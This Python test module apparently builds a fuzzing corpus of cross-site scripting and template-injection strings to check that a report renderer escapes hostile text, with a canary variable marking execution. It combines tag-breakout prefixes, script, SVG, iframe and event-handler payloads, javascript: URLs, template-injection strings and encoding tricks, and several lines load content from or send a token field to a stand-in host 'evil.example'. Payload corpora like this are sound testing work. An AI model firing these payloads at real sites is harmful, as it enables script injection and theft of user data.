"""Texts that try to be more than text on a page: they set a canary, put up a dialog, or ask another host for something.

Built from ways out of where a page could put a text, what to do there, and ways to write it past a filter.
"""

from __future__ import annotations

from report.hostile import STRINGS

CANARY = "judgeCanary"
_ACT = f"window.{CANARY}=1;alert(1)"
_HOST = "evil.example"

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</pre>",
    "</title></head><body>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "</summary></details></section></aside></main>",
    "</template></svg></math>",
)
_ELEMENTS = (
    f"<script>{_ACT}</script>",
    f"<script src=//{_HOST}/x.js></script>",
    f"<script type=module>import '//{_HOST}/x.js'</script>",
    f"<img src=x onerror={_ACT}>",
    f"<img src=//{_HOST}/x.png>",
    f"<img srcset='//{_HOST}/x.png 1x'>",
    f"<svg onload={_ACT}>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=//{_HOST}/x /></svg>#x' />",
    f"<svg><image href=//{_HOST}/x.png /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_ACT}&gt;'>",
    f"<math href='javascript:{_ACT}'>x</math>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"<iframe src='javascript:parent.{CANARY}=1'></iframe>",
    f"<iframe src=//{_HOST}/></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src=//{_HOST}/x.swf>",
    f"<meta http-equiv=refresh content='0;url=http://{_HOST}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    f"<base href=http://{_HOST}/>",
    f"<link rel=stylesheet href=//{_HOST}/x.css>",
    f"<link rel=prefetch href=//{_HOST}/x>",
    f"<style>@import '//{_HOST}/x.css';*{{background:url(//{_HOST}/x)}}</style>",
    f"<p style='background:url(//{_HOST}/x)'>x</p>",
    f"<form action=http://{_HOST}/><input name=token autofocus onfocus={_ACT}><button>Commit</button></form>",
    f"<button formaction='javascript:{_ACT}' autofocus>x</button>",
    f"<a href='javascript:{_ACT}' id=mark class=brand rel=next>x</a>",
    f"<a href=http://{_HOST}/ ping=http://{_HOST}/>x</a>",
    f"<details open ontoggle={_ACT}><summary>x</summary></details>",
    f"<video src=x onerror={_ACT}><source src=//{_HOST}/x></video>",
    f"<body onload={_ACT} onpageshow={_ACT}>",
    f"<marquee onstart={_ACT}>x</marquee>",
    f"<dialog open id=keys onclose={_ACT}><form method=dialog><button>x</button></form></dialog>",
    f"<template shadowrootmode=open><script>{_ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_ACT}>'>",
    "<input id=words><div id=told>forged</div><span class=chip>absent</span>",
    f"<plaintext><b {CANARY}>",
)
_EVENTS = (
    "onclick onfocus onmouseover onpointerenter onanimationstart ontransitionend onbeforetoggle onscroll onload onerror "
    "onkeydown oninput onchange onselectionchange onwheel onauxclick oncontentvisibilityautostatechange onblur"
).split()
_QUOTES = ('"', "'", "` ", " ", "\n", "/")
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
)
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "[[{}]]", "{{{{constructor.constructor('{}')()}}}}",
    "{{{{ self.__init__.__globals__ }}}} {}", "<!--#exec cmd='{}' -->", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
_WRITTEN = (
    lambda text: text.upper(),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"%{ord(one):02x}" for one in text if ord(one) < 256),
    lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
    lambda text: f"\u202e{text[::-1]}\u202c",
    "\u200b".join,
    lambda text: f"\x1b]8;;http://{_HOST}/\x07{text}\x1b]8;;\x07",
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\\ud83c<\\udc00"),
    lambda text: f"{'x' * 3_000}{text}",
)


def payloads() -> list[str]:
    """Every text, each once; none holds a lone surrogate, which no file of ours can."""
    found = [f"{out}{element}" for out in _WAYS_OUT for element in _ELEMENTS]
    found += [
        f"x{quote}{event}={quote.strip()}{_ACT}{quote.strip()} y={quote}" for event in _EVENTS for quote in _QUOTES
    ]
    found += [address.format(_ACT) for address in _ADDRESSES]
    found += [template.format(_ACT) for template in _TEMPLATES]
    found += [write(element) for write in _WRITTEN for element in (_ELEMENTS[0], _ELEMENTS[3], _ELEMENTS[14])]
    found += [text for text in STRINGS if "\ud800" not in text]
    return list(dict.fromkeys(text for text in found if text.strip()))
